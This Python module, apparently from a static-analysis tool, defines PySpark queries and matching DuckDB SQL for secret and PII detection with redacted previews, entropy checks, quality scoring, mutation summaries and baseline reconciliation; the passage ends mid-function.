"""Every operator as a query over the given tables, and the same query in DuckDB SQL."""

from __future__ import annotations

import re
from collections.abc import Callable

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from plumbline.functions.scores import threshold_severity
from plumbline.functions.text import entropy, fingerprint, identifier_tokens, line_of, matches_path, path_regex, stable_identity
from plumbline.operators import asof, measures, reconcile, regions, scoring
from plumbline.plans import catalogue, protocol
from plumbline.rules import code, conventions, exemptions, flow, hierarchy, manifests, scopes, statements, text
from plumbline.sinks import reports
from plumbline.sources import files, samples, tables
from plumbline.sources.staging import fresh_folder, spread, staged
from plumbline.streaming import incremental
from plumbline.sources.tables import ACCEPTED, BASE, CONFIGS_SQL, CURRENT, DECLARATIONS_SQL, HISTORY_SQL, MUTANTS_SQL, RANGES_SQL, findings_sql

QUERIES: dict[str, Callable[[SparkSession, str], DataFrame]] = {}
SQL: dict[str, str] = {}


def query(sql: str | None = None):
    def register(f):
        QUERIES[f.__name__] = f
        if sql:
            SQL[f.__name__] = sql
        return f

    return register


def current(spark, sf):
    """All findings; what is compared with a base, a baseline or changed lines is a part of them."""
    return tables.findings(spark, sf)


def compared(spark, sf):
    return tables.findings(spark, sf, CURRENT)


CUR, NOW, OLD, ACC = findings_sql(), findings_sql(CURRENT), findings_sql(BASE), findings_sql(ACCEPTED)
UNITS = "(SELECT 'tests/' || coalesce(lang, 'none') || '/' || coalesce(source, 'none') || '/doc' || doc_id || '.md' AS file, coalesce(text, '') AS source FROM documents)"
PAGES = "(SELECT 'pages/p' || page_id || '.xml' AS file, coalesce(html, '') AS source FROM pages)"


def lines_sql(units: str) -> str:
    return f"(SELECT file, unnest(range(1, len(string_split(source, chr(10))) + 1))::INT AS line, unnest(string_split(source, chr(10))) AS text FROM {units} u)"


def matches_sql(units: str, detectors: dict[str, str], group: int = 0) -> str:
    each = " UNION ALL ".join(f"SELECT file, line, text, '{name}' AS detector, unnest(regexp_extract_all(text, '{p.replace(chr(39), chr(39) * 2)}', {group})) AS value FROM l" for name, p in detectors.items())
    return f"(WITH l AS {lines_sql(units)} {each})"


REDACTED = "'<redacted:' || octet_length(encode(value)) || ' chars>'"
NOT_DUMMY = "NOT regexp_matches(lower(value), 'example|placeholder|changeme|dummy')"
PENALTY = "(CASE severity WHEN 'advisory' THEN 1.0 WHEN 'warning' THEN 4.0 WHEN 'error' THEN 12.0 END * CASE confidence WHEN 'low' THEN 0.5 WHEN 'medium' THEN 0.75 WHEN 'high' THEN 1.0 END)::DOUBLE"
CORR = "('complexity.cognitive', 'complexity.cyclomatic', 'complexity.nesting-depth', 'size.method-length', 'size.parameter-count')"


def penalties_sql(rows: str) -> str:
    w = "OVER (PARTITION BY file, symbol, line, c)"
    return f"(SELECT *, CASE WHEN c AND count(*) {w} > 1 THEN max(p) {w} / count(*) {w} ELSE p END AS penalty FROM (SELECT *, {PENALTY} AS p, rule_id IN {CORR} AS c FROM {rows} f0) f1)"


def letter_sql(s: str) -> str:
    return f"CASE WHEN {s} >= 90 THEN 'A' WHEN {s} >= 80 THEN 'B' WHEN {s} >= 70 THEN 'C' WHEN {s} >= 60 THEN 'D' ELSE 'F' END"


def clamp_sql(s: str) -> str:
    return f"greatest(0.0::DOUBLE, least(100.0::DOUBLE, round(({s})::DOUBLE, 2)))"


COUNTS = "count(*) FILTER (severity = 'advisory') AS advisory, count(*) FILTER (severity = 'warning') AS warning, count(*) FILTER (severity = 'error') AS error"
STATIC = ", ".join(f"('{p}')" for p in scoring.STATIC_PILLARS)
PILLARS = f"""(SELECT coalesce(pillar, known) AS pillar, coalesce(n, 0) AS findings, round(4 * coalesce(points, 0)::DOUBLE, 2) AS penalty, {clamp_sql('100 - 4 * coalesce(points, 0)')} AS score
  FROM (SELECT pillar, count(*) AS n, sum(penalty) AS points FROM {penalties_sql(CUR)} q GROUP BY pillar) a FULL JOIN (VALUES {STATIC}) k(known) ON pillar = known)"""


# ---------------------------------------------------------------- units and paths


@query(f"SELECT file, 'text' AS type, octet_length(encode(source)) AS bytes, len(string_split(source, chr(10))) AS lines FROM {UNITS}")
def scan_units(spark, sf):
    u = tables.units(spark, sf)
    return u.select("file", "type", F.octet_length("source").cast("long").alias("bytes"), F.size(F.split("source", "\n")).cast("long").alias("lines"))


@query("SELECT file, CASE WHEN ext = 'php' THEN 'php' WHEN ext IN ('md', 'json', 'xml') THEN 'text' END AS type FROM (SELECT p_partkey, 'src/' || p_name || '.' || e AS file, e AS ext FROM (SELECT *, ['php', 'md', 'json', 'xml', 'png'][(p_partkey % 5 + 1)::INT] AS e FROM part))")
def file_typing(spark, sf):
    kind = F.element_at(F.array(*map(F.lit, ("php", "md", "json", "xml", "png"))), (F.col("p_partkey") % 5 + 1).cast("int"))
    return tables.table(spark, sf, "part").select(F.concat(F.lit("src/"), "p_name", F.lit("."), kind).alias("file")).select("file", files.file_type(F.col("file")).alias("type"))


PATTERNS = ["tests/en/**", "tests/*/src3/doc?.md", "tests/fr/src1*"]


def _decision_sql():
    cases = " ".join(f"WHEN regexp_matches(file, '{path_regex(p)}') THEN '{p}'" for p in PATTERNS)
    return f"SELECT file, CASE WHEN pattern IS NOT NULL THEN 'config' END AS reason, pattern FROM (SELECT file, CASE {cases} END AS pattern FROM {UNITS})"


@query(_decision_sql())
def ignore_decision(spark, sf):
    decision = files.ignore_decision(F.col("file"), PATTERNS)
    return tables.units(spark, sf).select("file", decision["source"].alias("reason"), decision["pattern"].alias("pattern"))


@query(f"SELECT file FROM {UNITS} WHERE file LIKE 'tests/de/%' OR file LIKE 'tests/en/src2/%'")
def requested_paths(spark, sf):
    return regions.under_paths(tables.units(spark, sf), spark.createDataFrame([("tests/de/",), ("tests/en/src2",)], "path string"))


@query("SELECT doc_id, regexp_matches(source, '^src1.?$') AS matched FROM documents")
def path_pattern(spark, sf):
    return tables.table(spark, sf, "documents").select("doc_id", F.when(F.col("source").isNotNull(), matches_path(F.col("source"), ["src1", "src1?"]).isNotNull()).alias("matched"))


# ---------------------------------------------------------------- text rules


def _detector(name, rule, detectors, units, units_sql, shown, where="true", group=0, rule_id=""):
    preview = REDACTED if shown == "redacted" else "substr(value, 1, 4) || " + REDACTED
    sql = f"SELECT file, line, '{rule_id}' AS rule_id, detector, {preview} AS preview FROM {matches_sql(units_sql, detectors, group)} m WHERE {where}"

    def run(spark, sf):
        return rule(units(spark, sf))

    run.__name__ = name
    query(sql)(run)


PII_WHERE = (
    "NOT (contains(lower(value), 'example') OR contains(lower(value), '@test.') OR contains(value, '555-010') OR contains(value, '555 010')) "
    "AND NOT (detector = 'email' AND (contains(lower(text), '@author') OR contains(lower(text), 'copyright') OR regexp_matches(lower(value), '\\.(local|test|invalid|localhost|example)$'))) "
    "AND NOT (detector = 'address' AND regexp_matches(text, '(?i)\\b(?:anytown|demo|fake|sample|test)\\b'))"
)
_detector("detect_personal_data", text.personal_data, {"email": text.EMAIL, "phone": text.PHONE, "address": text.ADDRESS}, tables.units, UNITS, "redacted", PII_WHERE, 0, "sensitive-data.pii-test-fixture")
_detector("detect_aws_keys", text.aws_keys, {"aws-access-key": text.AWS_KEY}, tables.config_units, CONFIGS_SQL, "short", NOT_DUMMY, 0, "sensitive-data.aws-access-key")
HEALTH_WHERE = f"regexp_matches(lower(text), '{text.HEALTH_CONTEXT}')"
_detector("detect_health_ids", text.health_ids, text.HEALTH, tables.config_units, CONFIGS_SQL, "redacted", HEALTH_WHERE, 0, "sensitive-data.phi-pattern")
_detector("detect_jwt", text.jwt_tokens, {"jwt": text.JWT}, tables.config_units, CONFIGS_SQL, "short", NOT_DUMMY, 0, "sensitive-data.jwt-token")


@query(f"SELECT file, line, 'sensitive-data.api-key-pattern' AS rule_id, detector, substr(value, 1, 4) || {REDACTED} AS preview FROM {matches_sql(CONFIGS_SQL, text.API_KEYS)} m WHERE {NOT_DUMMY}")
def detect_api_keys(spark, sf):
    return text.api_keys(tables.config_units(spark, sf))


@query(f"SELECT file, line, 'sensitive-data.private-key' AS rule_id, detector, value AS preview FROM {matches_sql(CONFIGS_SQL, {'private-key': text.PRIVATE_KEY})} m")
def detect_private_keys(spark, sf):
    return text.private_keys(tables.config_units(spark, sf))


def without_password_sql(rows: str) -> str:
    """rows with the password of an address (pw), and the address without it (shown)."""
    found = lambda pattern: f"regexp_extract(value, '{pattern.replace(chr(39), chr(39) * 2)}', 1)"
    shown = f"replace(value, ':' || pw || '@', ':' || {REDACTED.replace('value', 'pw')} || '@')"
    return f"(SELECT *, {shown} AS shown FROM (SELECT *, CASE detector WHEN 'url' THEN {found(text.WEB_URL)} ELSE {found(text.DATABASE_URL)} END AS pw FROM {rows} u0) u1)"


URL_DETECTORS = {"database-url": text.DATABASE_URL, "url": text.WEB_URL}


@query(f"SELECT file, line, CASE detector WHEN 'url' THEN 'sensitive-data.url-credentials' ELSE 'sensitive-data.database-url-password' END AS rule_id, detector, shown AS preview FROM {without_password_sql(matches_sql(CONFIGS_SQL, URL_DETECTORS))} m WHERE {NOT_DUMMY.replace('value', 'pw')}")
def detect_url_credentials(spark, sf):
    return text.url_credentials(tables.config_units(spark, sf))


@query(f"WITH m AS {matches_sql(UNITS, {'literal': text.LITERAL}, 1)}, e AS (SELECT value, round(-sum(n / t * log2(n / t)), 6) AS entropy FROM (SELECT value, n::DOUBLE AS n, sum(n) OVER (PARTITION BY value)::DOUBLE AS t FROM (SELECT value, c, count(*) AS n FROM (SELECT value, unnest(string_split(value, '')) AS c FROM (SELECT DISTINCT value FROM m)) GROUP BY ALL)) GROUP BY value) SELECT file, line, value AS literal, entropy FROM m JOIN e USING (value)")
def entropy_literals(spark, sf):
    return text.literals(tables.units(spark, sf))


def entropy_sql(value: str) -> str:
    shares = f"[(len({value}) - len(replace({value}, c, '')))::DOUBLE / len({value}) FOR c IN list_distinct(string_split({value}, ''))]"
    return f"coalesce(-list_sum([p * log2(p) FOR p IN {shares}]), 0)"


DUMMY_SQL = f"(regexp_matches({{v}}, '(?i)example|placeholder|changeme|dummy') OR length(replace({{v}}, {{v}}[1], '')) = 0)"
SHORT = f"substr(value, 1, 4) || {REDACTED}"


def _case_sql(tests: dict[str, str]) -> str:
    return "CASE " + " ".join(f"WHEN {test} THEN '{name}'" for name, test in tests.items()) + " END"


def _full(value: str, pattern: str) -> str:
    return f"regexp_matches({value}, '{pattern}')"


def literal_exemption_sql(value: str = "value", line: str = "text") -> str:
    """Why a literal is no secret: letters of a part's words are counted after its humps are cut with spaces."""
    part_words = f"CASE WHEN {_full('p', '^[A-Za-z]{3,}$')} THEN len(p) ELSE coalesce(list_sum([len(w) FOR w IN regexp_extract_all(regexp_replace(p, '([A-Z]+)([A-Z][a-z])', '\\1 \\2', 'g'), '[A-Z]?[a-z]+|[A-Z]+') IF len(w) >= 3]), 0) END"
    counts = f"[{{'n': len(p), 'w': {part_words}}} FOR p IN string_split_regex({value}, '[/._-]+') IF p <> '']"
    words = f"{_full(value, exemptions.COMPOUND)} AND len([1 FOR c IN {counts} IF c.n >= 16 AND 2 * c.w <= c.n]) = 0 AND list_sum([2 * c.w - c.n FOR c IN {counts}]) > 0"
    prefixes = " OR ".join(f"starts_with({value}, '{p}')" for p in exemptions.OWNED)
    return _case_sql({
        "other-rule": f"({prefixes} OR {_full(value, '^' + text.JWT + '$')} OR {_full(value, '^[A-Za-z]{1,48}$')})",
        "path": f"(regexp_matches(regexp_extract({value}, '{exemptions.ROUTE}', 1), '[A-Za-z]{{3}}') OR {_full(value, exemptions.FILE_NAME)})",
        "setting": _full(value, exemptions.SETTING), "words": words, "keyspace": f"{value} IN {exemptions.KEYSPACES}", "provider": f"{_full(value, exemptions.IDENTIFIER)} AND {_full(line, exemptions.PROVIDER)}",
        "clinical-code": f"{_full(line, exemptions.CLINICAL_LINE)} AND ({_full(value, exemptions.CLINICAL_CODE)} OR contains({value}, 'HL7') AND {_full(line, exemptions.CLINICAL_FIELD)})",
    })


def assignment_exemption_sql(key: str, value: str) -> str:
    plain = f"NOT {_full(value, exemptions.MATERIAL)}"
    return _case_sql({
        "label": _full(value, exemptions.LABEL), "period": f"{plain} AND (upper({key}) LIKE '%\\_EXPIRES\\_AT' ESCAPE '\\' OR upper({key}) LIKE '%\\_VALID\\_PERIOD' ESCAPE '\\')",
        "lookup-name": f"{plain} AND upper({key}) LIKE '%\\_KEY' ESCAPE '\\' AND {_full(value, exemptions.LOOKUP_NAME)}", "field-name": f"{plain} AND {_full(value, exemptions.FIELD_NAME)}",
    })


def random_literals_sql(units: str, least: float) -> str:
    """Literals that look random, other than keys: what follows a literal is matched with it, and a colon or arrow there makes it a key."""
    pattern = text.LITERAL + "(\\s*(?::|=>))?"
    found = f"(SELECT file, line, text, regexp_extract(value, '{text.LITERAL.replace(chr(39), chr(39) * 2)}', 1) AS value, regexp_matches(value, '(:|=>)$') AS is_key FROM {matches_sql(units, {'literal': pattern})} m0)"
    long_hex = "(len(value) >= 64 AND regexp_full_match(value, '[0-9a-fA-F]+'))"
    return f"(SELECT file, line, 'high-entropy' AS detector, value, {literal_exemption_sql()} AS exemption FROM {found} m WHERE NOT is_key AND (round({entropy_sql('value')}, 6) >= {least} OR {long_hex}))"


def literals_sql(units: str, least: float) -> str:
    return f"(SELECT file, line, 'sensitive-data.high-entropy-string' AS rule_id, detector, {SHORT} AS preview FROM {random_literals_sql(units, least)} r WHERE exemption IS NULL AND NOT {DUMMY_SQL.format(v='value')})"


def assignments_sql(units: str, pattern: str) -> str:
    cut = f"(SELECT file, line, regexp_extract(value, '{text.ENV_KEY}', 1) AS key, regexp_extract(value, '{text.ENV_GIVEN.replace(chr(39), chr(39) * 2)}', 1) AS value FROM {matches_sql(units, {'env': pattern})} m)"
    return f"(SELECT file, line, 'env-style-secret' AS detector, key, value, {assignment_exemption_sql('key', 'value')} AS exemption FROM {cut} c)"


def env_sql(units: str, pattern: str, least: float) -> str:
    return f"(SELECT file, line, 'sensitive-data.hardcoded-env-value' AS rule_id, detector, {SHORT} AS preview FROM {assignments_sql(units, pattern)} a WHERE exemption IS NULL AND len(value) >= 20 AND NOT {DUMMY_SQL.format(v='value')} AND {entropy_sql('value')} >= {least})"


@query(random_literals_sql(samples.LITERALS_SQL, 4.2))
def literal_exemptions(spark, sf):
    """Each random-looking literal with the reason why it is no secret, or null."""
    return text.random_literals(samples.literal_units(spark, sf))


@query(assignments_sql(samples.LITERALS_SQL, text.ENV_VALUE))
def assignment_exemptions(spark, sf):
    return text.assignments(samples.literal_units(spark, sf))


@query(literals_sql(UNITS, 3.0))
def high_entropy_literals(spark, sf):
    return text.high_entropy(tables.units(spark, sf), min_entropy=3.0)


@query(env_sql(UNITS, "(?i)" + text.ENV_VALUE, 3.0))
def env_style_values(spark, sf):
    return text.env_values(tables.units(spark, sf), min_entropy=3.0, any_case=True)


@query(f"SELECT file, line, text FROM {lines_sql(UNITS)} WHERE regexp_matches(text, '(?i)\\b(licen[cs]e|copyright)\\b')")
def license_lines(spark, sf):
    return text.license_lines(tables.units(spark, sf))


@query(f"SELECT file, sum(len(regexp_extract_all(text, '(?i)\\b(?:A|OF|THE)\\b')))::BIGINT AS markers FROM {lines_sql(UNITS)} GROUP BY file")
def marker_counts(spark, sf):
    return text.lines(tables.units(spark, sf)).groupBy("file").agg(F.sum(F.size(F.regexp_extract_all("text", F.lit(r"(?i)\b(?:A|OF|THE)\b"), F.lit(0)))).alias("markers"))


@query(f"SELECT file, m AS markers, n AS lines, round(m * 1000.0 / n, 4)::DOUBLE AS density FROM (SELECT file, sum(len(regexp_extract_all(text, '{text.TODO}')))::BIGINT AS m, count(*) AS n FROM {lines_sql(PAGES)} GROUP BY file) WHERE m >= 0")
def todo_density(spark, sf):
    return text.todo_density(tables.page_units(spark, sf), least=0)


@query(f"SELECT file, count(*) FILTER (regexp_matches(text, '[^ \\t\\r\\f]')) AS m_lines FROM {lines_sql(UNITS)} GROUP BY file HAVING count(*) FILTER (regexp_matches(text, '[^ \\t\\r\\f]')) > 10")
def file_length(spark, sf):
    return text.file_length(tables.units(spark, sf), limit=10)


@query(f"SELECT file, line, (sum(CASE WHEN regexp_matches(text, '[^ \\t\\r\\f]') THEN 1 ELSE 0 END) OVER (PARTITION BY file ORDER BY line))::INT AS upto FROM {lines_sql(UNITS)}")
def line_prefix_sum(spark, sf):
    return text.line_prefix_sum(tables.units(spark, sf))


@query("SELECT p_partkey, [x FOR x IN string_split_regex(lower(p_name), '[^a-z0-9]+') IF x <> ''] AS tokens FROM part")
def identifier_words(spark, sf):
    return tables.table(spark, sf, "part").select("p_partkey", identifier_tokens(F.regexp_replace("p_name", "[^A-Za-z0-9]+", "_")).alias("tokens"))


@query("SELECT event_type, round(coalesce(-sum(n / t * log2(n / t)), 0), 6) AS entropy FROM (SELECT event_type, n::DOUBLE AS n, sum(n) OVER (PARTITION BY event_type)::DOUBLE AS t FROM (SELECT event_type, c, count(*) AS n FROM (SELECT event_type, unnest(string_split(event_type, '')) AS c FROM (SELECT DISTINCT event_type FROM events)) GROUP BY ALL)) GROUP BY event_type")
def name_entropy(spark, sf):
    return tables.table(spark, sf, "events").select("event_type").distinct().select("event_type", F.round(entropy(F.col("event_type")), 6).alias("entropy"))


TALKS = "(SELECT 'docs/c' || conv_id || '-' || turn || '.md' AS file, coalesce(text, '') AS source FROM conversations)"
ALL_UNITS = f"(SELECT * FROM {UNITS} a1 UNION ALL SELECT * FROM {PAGES} a2 UNION ALL SELECT * FROM {TALKS} a3)"


def _analyse_sql():
    """Each rule by itself over all units."""
    secrets = {**text.API_KEYS, "aws-access-key": text.AWS_KEY, "jwt": text.JWT}
    rule = "CASE detector WHEN 'aws-access-key' THEN 'sensitive-data.aws-access-key' WHEN 'jwt' THEN 'sensitive-data.jwt-token' ELSE 'sensitive-data.api-key-pattern' END"
    in_health = f"(SELECT * FROM {ALL_UNITS} h0 WHERE regexp_matches(source, '{text.HEALTH_WORD}'))"
    sample = "file LIKE 'docs/%' AND regexp_matches(lower(text), 'example|placeholder|sample|source_snippet') OR regexp_replace(value, '[^A-Za-z0-9]', '', 'g') = '123456789' AND contains(lower(text), 'patientfundmembershipnum')"
    azure = "regexp_matches(value, '(?i)\\bsv=') AND regexp_matches(value, '(?i)\\bsig=')"
    parts = [
        f"SELECT file, line, {rule} AS rule_id, detector, {SHORT} AS preview FROM {matches_sql(ALL_UNITS, secrets)} m WHERE NOT {DUMMY_SQL.format(v='value')}",
        f"SELECT file, line, 'sensitive-data.api-key-pattern', detector, {SHORT} FROM {matches_sql(ALL_UNITS, {'azure-sas': text.AZURE_SAS})} m WHERE {azure} AND NOT {DUMMY_SQL.format(v='value')}",
        f"SELECT file, line, 'sensitive-data.private-key', detector, value FROM {matches_sql(ALL_UNITS, {'private-key': text.PRIVATE_KEY})} m",
        f"SELECT file, line, CASE detector WHEN 'url' THEN 'sensitive-data.url-credentials' ELSE 'sensitive-data.database-url-password' END, detector, shown FROM {without_password_sql(matches_sql(ALL_UNITS, URL_DETECTORS))} m WHERE NOT {DUMMY_SQL.format(v='pw')}",
        f"SELECT * FROM {env_sql(ALL_UNITS, text.ENV_VALUE, 3.5)} e", f"SELECT * FROM {literals_sql(ALL_UNITS, 4.2)} e",
        f"SELECT file, line, 'sensitive-data.phi-pattern', detector, {REDACTED} FROM {matches_sql(in_health, text.HEALTH)} m WHERE {HEALTH_WHERE} AND NOT ({sample})",
        f"SELECT file, line, 'sensitive-data.pii-test-fixture', detector, {REDACTED} FROM {matches_sql(UNITS, {'email': text.EMAIL, 'phone': text.PHONE, 'address': text.ADDRESS})} m WHERE {PII_WHERE}",
        f"SELECT file, 1, 'size.file-length', NULL, NULL FROM {lines_sql(ALL_UNITS)} GROUP BY file HAVING count(*) FILTER (regexp_matches(text, '[^ \\t\\r\\f]')) > 1000",
        f"SELECT file, min(line) FILTER (regexp_matches(text, '{text.TODO}')), 'docs.todo-density', NULL, NULL FROM {lines_sql(ALL_UNITS)} GROUP BY file HAVING sum(len(regexp_extract_all(text, '{text.TODO}'))) > 10",
    ]
    rules = ", ".join(f"('{r}', '{p}', '{s}', '{c}')" for r, p, s, c in catalogue.RULES)
    value = f"CASE rule_id WHEN 'size.file-length' THEN (SELECT count(*) FILTER (regexp_matches(text, '[^ \\t\\r\\f]')) FROM {lines_sql(ALL_UNITS)} l WHERE l.file = f.file) WHEN 'docs.todo-density' THEN (SELECT sum(len(regexp_extract_all(text, '{text.TODO}'))) FROM {lines_sql(ALL_UNITS)} l WHERE l.file = f.file) END"
    return f"SELECT f.*, NULL::VARCHAR AS symbol, ({value})::BIGINT AS value, pillar, severity, confidence FROM ({' UNION ALL '.join(parts)}) f JOIN (VALUES {rules}) v(rule_id, pillar, severity, confidence) USING (rule_id)"


@query(_analyse_sql())
def analyse(spark, sf):
    return catalogue.analyse(tables.units(spark, sf).unionByName(tables.page_units(spark, sf)).unionByName(tables.conversation_units(spark, sf)))


@query(samples.CONVENTION_FINDINGS_SQL)
def convention_findings(spark, sf):
    facts = protocol.Facts(samples.convention_units(spark, sf))
    return conventions.convention_findings(facts["lines"], facts["declarations"], facts["segments"])


@query(samples.analyse_code_sql())
def analyse_code(spark, sf):
    """All security rules, lexical, by scope and by flow, over the same staged facts."""
    return catalogue.analyse(samples.flow_units(spark, sf), catalogue.Selection(pillars=("security",)))


# ---------------------------------------------------------------- counts and scores


@query(f"SELECT count(*) AS total, {COUNTS} FROM {CUR}")
def severity_totals(spark, sf):
    return scoring.severity_totals(current(spark, sf))


@query(f"SELECT rule_id, pillar, count(*) AS total, {COUNTS} FROM {CUR} GROUP BY ALL")
def rule_counts(spark, sf):
    return scoring.rule_counts(current(spark, sf))


@query(f"SELECT rule_id, pillar, count(*) AS total, {COUNTS} FROM {CUR} GROUP BY rule_id, pillar ORDER BY total DESC, rule_id LIMIT 3")
def top_rules(spark, sf):
    return scoring.rule_counts(current(spark, sf), 3)


@query(f"SELECT ord, round(penalty, 6) AS penalty FROM {penalties_sql(CUR)}")
def penalties(spark, sf):
    return scoring.penalties(current(spark, sf)).select("ord", F.round("penalty", 6).alias("penalty"))


@query(f"SELECT *, {letter_sql('score')} AS grade FROM {PILLARS}")
def pillar_scores(spark, sf):
    return scoring.pillar_scores(current(spark, sf))


@query(f"SELECT score, {letter_sql('score')} AS grade FROM (SELECT {clamp_sql('avg(score)')} AS score FROM {PILLARS})")
def composite_score(spark, sf):
    return scoring.composite(scoring.pillar_scores(current(spark, sf)))


FILES = f"""(SELECT file, count(*) AS findings, {COUNTS}, {clamp_sql('100 - 5 * sum(penalty)')} AS score,
  max(m_complexity) FILTER (rule_id = 'complexity.cyclomatic') AS max_cyclomatic, max(m_complexity) FILTER (rule_id = 'complexity.cognitive') AS max_cognitive,
  max(m_lines) FILTER (rule_id IN ('size.file-length', 'size.class-length', 'size.method-length')) AS max_lines FROM {penalties_sql(CUR)} q GROUP BY file)"""


@query(f"SELECT *, {letter_sql('score')} AS grade, NULL::DOUBLE AS msi FROM {FILES} ORDER BY score, findings DESC, file LIMIT 10")
def file_scores_topk(spark, sf):
    return scoring.file_scores(current(spark, sf))


SUMMARY = """(SELECT *, round(CASE WHEN killed + survived + not_covered > 0 THEN 100.0::DOUBLE * killed / (killed + survived + not_covered) ELSE 0 END, 2) AS msi, round(CASE WHEN killed + survived > 0 THEN 100.0::DOUBLE * killed / (killed + survived) ELSE 0 END, 2) AS covered_msi FROM (
  SELECT {by} count(*) AS total, count(*) FILTER (status IN ('killed', 'killed by SA')) AS killed, count(*) FILTER (status IN ('escaped', 'timed out')) AS survived, count(*) FILTER (status = 'not covered') AS not_covered FROM {rows} m {group}))"""
BY_FILE = SUMMARY.format(by="file,", rows=MUTANTS_SQL, group="GROUP BY file")
IN_ALL = SUMMARY.format(by="", rows=MUTANTS_SQL, group="")


@query(f"SELECT coalesce(f.file, m.file) AS file, coalesce(findings, 0) AS findings, coalesce(advisory, 0) AS advisory, coalesce(warning, 0) AS warning, coalesce(error, 0) AS error, coalesce(score, 100.0)::DOUBLE AS score, {letter_sql('coalesce(score, 100.0)')} AS grade, max_cyclomatic, max_cognitive, max_lines, msi FROM {FILES} f FULL JOIN {BY_FILE} m ON f.file = m.file")
def file_scores_with_mutation(spark, sf):
    return scoring.file_scores(current(spark, sf), measures.mutation_summary(tables.mutants(spark, sf)), None)


@query(f"SELECT bucket, count(f.ord) AS n FROM (VALUES ('1-5', 1, 5), ('6-10', 6, 10), ('11-15', 11, 15), ('16-20', 16, 20), ('21+', 21, 1000000)) b(bucket, low, high) LEFT JOIN (SELECT * FROM {CUR} c WHERE rule_id = 'complexity.cyclomatic') f ON m_complexity BETWEEN low AND high GROUP BY bucket")
def complexity_histogram(spark, sf):
    return scoring.complexity_histogram(current(spark, sf))


@query(f"SELECT 'all' AS scope, kind, found, cap FROM (SELECT * FROM (SELECT 1 AS place, 'error' AS kind, count(*) FILTER (severity = 'error') AS found, 1000000 AS cap FROM {CUR} UNION ALL SELECT 2, 'warning', count(*) FILTER (severity = 'warning'), 10 FROM {CUR} UNION ALL SELECT 3, 'total', count(*), 5 FROM {CUR}) WHERE found > cap ORDER BY place LIMIT 1)")
def gate_trip(spark, sf):
    return scoring.gate(current(spark, sf), None, {"error": 1_000_000, "warning": 10, "total": 5})


@query(f"SELECT ord FROM {CUR} WHERE severity IN ('warning', 'error') AND pillar <> 'security' AND rule_id <> 'size.method-length'")
def display_filter(spark, sf):
    return scoring.display_filter(current(spark, sf), "warning", without_pillars=["security"], without_rules=["size.method-length"]).select("ord")


@query(f"SELECT ord FROM {CUR} WHERE rule_id NOT IN ('size.method-length')")
def scored_findings(spark, sf):
    return scoring.unscored(current(spark, sf), spark.createDataFrame([("size.method-length",)], "rule_id string")).select("ord")


@query(f"SELECT ord FROM (SELECT ord, 'p' || (ord % 11) AS preview, CASE WHEN pillar = 'security' THEN 'sensitive-data' ELSE pillar END AS pillar FROM {CUR} c) WHERE NOT (pillar = 'sensitive-data' AND preview IN ('p3', 'p7'))")
def preview_allowlist(spark, sf):
    rows = current(spark, sf).withColumn("preview", F.concat(F.lit("p"), (F.col("ord") % 11).cast("string"))).withColumn("pillar", F.when(F.col("pillar") == "security", "sensitive-data").otherwise(F.col("pillar")))
    return scoring.without_previews(rows, spark.createDataFrame([("p3",), ("p7",)], "preview string")).select("ord")


# ---------------------------------------------------------------- dedupe, baseline, review


@query(f"SELECT min(ord) AS ord FROM (SELECT * REPLACE (0 AS m_lines, 0 AS m_complexity) FROM {CUR} c) GROUP BY rule_id, file, line, end_line, symbol, message")
def exact_dedupe(spark, sf):
    return reconcile.exact_dedupe(current(spark, sf).withColumn("m_lines", F.lit(0)).withColumn("m_complexity", F.lit(0))).select("ord")


@query(
    "SELECT ord FROM (SELECT ord, row_number() OVER (PARTITION BY file, line, symbol ORDER BY p, ord) AS r, p FROM (SELECT *, list_position(['naming.class-file-mismatch', 'naming.confusing-name', 'naming.negative-boolean', 'naming.boolean-prefix', 'naming.identifier-quality', 'naming.hungarian-notation'], n) AS p "
    f"FROM (SELECT *, CASE rule_id WHEN 'naming.identifier-quality' THEN 'naming.identifier-quality' WHEN 'size.method-length' THEN 'naming.confusing-name' WHEN 'security.weak-hash' THEN 'naming.hungarian-notation' ELSE rule_id END AS n FROM {CUR} c))) WHERE p IS NULL OR r = 1"
)
def naming_dedupe(spark, sf):
    named = F.when(F.col("rule_id") == "size.method-length", "naming.confusing-name").when(F.col("rule_id") == "security.weak-hash", "naming.hungarian-notation").otherwise(F.col("rule_id"))
    return reconcile.naming_dedupe(current(spark, sf).withColumn("rule_id", named)).select("ord")


@query(f"SELECT file, rule_id, message, count(*) AS accepted FROM {ACC} GROUP BY ALL")
def baseline_write(spark, sf):
    return reconcile.baseline_groups(tables.findings(spark, sf, ACCEPTED))


RECONCILED = f"(SELECT c.ord, row_number() OVER (PARTITION BY c.file, c.rule_id, c.message ORDER BY c.line, c.ord) > coalesce(a.accepted, 0) AS is_new FROM {NOW} c LEFT JOIN (SELECT file, rule_id, message, count(*) AS accepted FROM {ACC} GROUP BY ALL) a ON c.file = a.file AND c.rule_id = a.rule_id AND c.message = a.message)"


@query(f"SELECT ord, is_new FROM {RECONCILED}")
def baseline_reconcile(spark, sf):
    return reconcile.apply_baseline(compared(spark, sf), reconcile.baseline_groups(tables.findings(spark, sf, ACCEPTED))).select("ord", "is_new")


@query(f"SELECT a.file, a.rule_id, a.message, accepted - coalesce(live, 0) AS resolved FROM (SELECT file, rule_id, message, count(*) AS accepted FROM {ACC} GROUP BY ALL) a LEFT JOIN (SELECT file, rule_id, message, count(*) AS live FROM {NOW} GROUP BY ALL) c ON a.file = c.file AND a.rule_id = c.rule_id AND a.message = c.message WHERE accepted > coalesce(live, 0)")
def baseline_absent(spark, sf):
    return reconcile.baseline_absent(compared(spark, sf), reconcile.baseline_groups(tables.findings(spark, sf, ACCEPTED)))


REVIEW = f"(SELECT *, greatest(0, n_current - n_base) AS introduced, greatest(0, n_base - n_current) AS removed, least(n_current, n_base) AS unchanged FROM (SELECT file, rule_id, symbol, message, sum(c)::BIGINT AS n_current, sum(1 - c)::BIGINT AS n_base FROM (SELECT *, 1 AS c FROM {NOW} a UNION ALL SELECT *, 0 AS c FROM {OLD} b) GROUP BY ALL))"


@query(f"SELECT * FROM {REVIEW}")
def review_counts(spark, sf):
    return reconcile.review(compared(spark, sf), tables.findings(spark, sf, BASE))


def _review_rows_sql(one, two):
    return f"SELECT ord FROM (SELECT *, row_number() OVER (PARTITION BY file, rule_id, symbol, message ORDER BY ord) AS r FROM {one} a) LEFT JOIN (SELECT file, rule_id, symbol, message, count(*) AS n FROM {two} GROUP BY ALL) b USING (file, rule_id, symbol, message) WHERE r > coalesce(n, 0)"


@query(_review_rows_sql(NOW, OLD))
def review_introduced(spark, sf):
